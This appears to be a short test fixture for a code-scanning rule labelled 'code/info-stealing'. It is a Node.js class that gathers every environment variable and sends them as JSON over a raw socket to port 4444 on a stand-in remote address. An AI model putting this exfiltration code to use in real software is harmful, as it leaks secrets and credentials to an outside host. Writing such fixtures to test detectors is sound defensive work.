const net = require('net');

// The environment is kept on the instance by one method and written to a raw socket by another, from
// the connect callback that uses the socket before `net.connect` has returned.
class Collector {
  constructor() {
    this.data = Object.assign({}, process.env);
  }

  send() {
    const c = net.connect(4444, '198.51.100.23', () => {
      // ruleid: code/info-stealing
      c.write(JSON.stringify(this.data));
      c.end();
    });
  }
}

new Collector().send();
